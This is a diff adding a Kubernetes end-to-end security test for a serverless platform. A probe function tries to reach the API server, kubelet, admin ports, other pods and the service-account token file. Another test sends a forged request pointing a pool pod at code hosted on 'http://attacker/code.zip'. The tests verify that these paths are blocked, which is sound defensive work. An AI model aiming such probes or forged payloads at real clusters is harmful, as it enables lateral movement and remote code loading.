@@ -1,0 +1,153 @@
+"""Least privilege on Kubernetes, tried from inside a function as an attacker would (issue 11): a function pod
+reaches DNS, its own code on the controller's artifact port and the gateway, and nothing else: not the API
+server (by its Service or the node's address), not the kubelet, not the controller's admin port, not NATS
+without a grant, not another function's code or pod, not an idle pool pod; it has no API token. And a pool
+pod rung by anyone but the controller stays in the pool.
+
+The probe is a function deployed with `fx deploy`, once on a warm-pool pod and once on a Deployment pod (too
+big for the pool); the test gives it the addresses to try and asserts on what it reports."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.e2e.conftest import RELEASE
+from tests.e2e.kube import Kube, http
+
+PROBE = """import concurrent.futures
+import os
+import socket
+import urllib.error
+import urllib.request
+
+
+def tcp(host, port):
+    try:
+        socket.create_connection((host, port), timeout=2).close()
+        return "connected"
+    except OSError as e:
+        return f"blocked: {e!r}"
+
+
+def fetch(method, url):
+    request = urllib.request.Request(url, method=method, data=b"{}" if method == "POST" else None)
+    try:
+        with urllib.request.urlopen(request, timeout=5) as response:
+            return response.status
+    except urllib.error.HTTPError as e:
+        return e.code
+    except OSError as e:
+        return f"blocked: {e!r}"
+
+
+def handler(event, context):
+    with concurrent.futures.ThreadPoolExecutor(16) as pool:
+        tcps = {name: pool.submit(tcp, host, port) for name, (host, port) in event.get("tcp", {}).items()}
+        https = {name: pool.submit(fetch, method, url) for name, (method, url) in event.get("http", {}).items()}
+        return {
+            "tcp": {name: f.result() for name, f in tcps.items()},
+            "http": {name: f.result() for name, f in https.items()},
+            "files": {path: os.path.exists(path) for path in event.get("files", [])},
+            "env": sorted(os.environ),
+        }
+"""
+VICTIM = "def handler(event, context):\n    return {'victim': True}\n"
+TOKEN_DIR = "/var/run/secrets/kubernetes.io/serviceaccount"
+
+
+def _deploy(fx, name: str, source: str, memory: int, min_replicas: int = 0) -> None:
+    folder: Path = fx.home / name
+    folder.mkdir(exist_ok=True)
+    (folder / "handler.py").write_text(source)
+    (folder / "fx.yaml").write_text(
+        f"functions:\n  {name}:\n    handler: handler.handler\n    runtime: python3.11\n    memory: {memory}\n"
+        f"    timeout: 30\n    scale: {{min: {min_replicas}, max: 1}}\n"
+    )
+    fx("deploy", cwd=folder)
+
+
+def _invoke(fx, name: str, event: dict) -> dict:
+    status, body = http("POST", f"{fx.gateway}/2015-03-31/functions/{name}/invocations", json.dumps(event).encode(), 90)
+    assert status == 200, body
+    return json.loads(body)
+
+
+def _digest(kube: Kube, function: str) -> str:
+    return kube.get("function", function)["spec"]["artifact"].split(":", 1)[1]
+
+
+def _pods(kube: Kube, selector: str) -> list[dict]:
+    return [p for p in kube.get("pods", "-l", selector)["items"] if not p["metadata"].get("deletionTimestamp")]
+
+
+@pytest.fixture(scope="module")
+def victim(kube: Kube, fx) -> str:
+    """Another function, kept running (scale.min 1) so its pod is there to be aimed at."""
+    _deploy(fx, "victim", VICTIM, 128, min_replicas=1)
+    assert _invoke(fx, "victim", {}) == {"victim": True}
+    return "victim"
+
+
+def _targets(kube: Kube, victim: str) -> dict:
+    """What an attacker would aim at, as the cluster names it."""
+    api = Kube(kube.kubeconfig, "default")
+    service = api.get("service", "kubernetes")["spec"]
+    (subset,) = api.get("endpoints", "kubernetes")["subsets"]
+    node = kube.get("nodes")["items"][0]
+    node_ip = next(a["address"] for a in node["status"]["addresses"] if a["type"] == "InternalIP")
+    controller = f"{RELEASE}-controller"
+    return {
+        "tcp": {
+            "kubernetes Service": [service["clusterIP"], service["ports"][0]["port"]],
+            "API server on its own address": [subset["addresses"][0]["ip"], subset["ports"][0]["port"]],
+            "kubelet": [node_ip, 10250],
+            "controller admin port": [controller, 8081],
+            "NATS without a grant": [f"{RELEASE}-nats", 4222],
+            "another function's pod": [_pods(kube, f"fx.dev/function={victim}")[0]["status"]["podIP"], 8080],
+            "an idle pool pod": [_pods(kube, "fx.dev/pool=true")[0]["status"]["podIP"], 8080],
+        },
+        "http": {
+            "another function's code": [
+                "GET",
+                f"http://{controller}:8082/artifacts/sha256-{_digest(kube, victim)}.zip",
+            ],
+            "another function through the gateway": ["POST", f"http://{RELEASE}-gateway:8080/function/{victim}"],
+        },
+        "files": [f"{TOKEN_DIR}/token"],
+    }
+
+
+@pytest.mark.parametrize(
+    ("probe", "memory", "pod_prefix"), [("probe-pool", 128, "fx-pool-"), ("probe-pod", 512, "fx-probe-pod-v1-")]
+)
+def test_a_function_pod_reaches_only_what_it_needs(kube: Kube, fx, victim, probe, memory, pod_prefix) -> None:
+    _deploy(fx, probe, PROBE, memory)
+    _invoke(fx, probe, {})  # its pod taken (or made) first, so an idle pool pod aimed at is not itself
+    (pod,) = _pods(kube, f"fx.dev/function={probe}")
+    assert pod["metadata"]["name"].startswith(pod_prefix)
+    targets = _targets(kube, victim)
+    own = ["GET", f"http://{RELEASE}-controller:8082/artifacts/sha256-{_digest(kube, probe)}.zip"]
+    report = _invoke(fx, probe, {**targets, "http": {**targets["http"], "its own code": own}})
+
+    reached = {name: result for name, result in report["tcp"].items() if result == "connected"}
+    assert reached == {}, f"a function pod reached {reached}"
+    assert report["http"]["another function's code"] == 403  # the port is open to it, that zip is not
+    assert report["http"]["its own code"] == 200
+    assert report["http"]["another function through the gateway"] == 200  # functions call functions over HTTP
+    assert report["files"] == {f"{TOKEN_DIR}/token": False}  # no service-account token: no API identity at all
+    fx("rm", probe)
+
+
+def test_an_idle_pool_pod_rung_by_anyone_but_the_controller_stays_in_the_pool(kube: Kube, fx) -> None:
+    """The node can reach a pool pod (the kubelet probes it); its doorbell still makes nothing of the pod."""
+    pool_pod = _pods(kube, "fx.dev/pool=true")[0]
+    ip, name = pool_pod["status"]["podIP"], pool_pod["metadata"]["name"]
+    forged = {"env": {"_HANDLER": "handler.handler", "FX_ARTIFACT_URL": "http://attacker/code.zip"}}
+    status, body = http("POST", f"http://{ip}:8080/_fx/specialize", json.dumps(forged).encode(), timeout=15)
+    assert status == 403, body
+    status, body = http("GET", f"http://{ip}:8080/_fx/health")
+    assert (status, json.loads(body)) == (200, {"status": "pool"})
+    assert kube.get("pod", name)["metadata"]["labels"].get("fx.dev/pool") == "true"
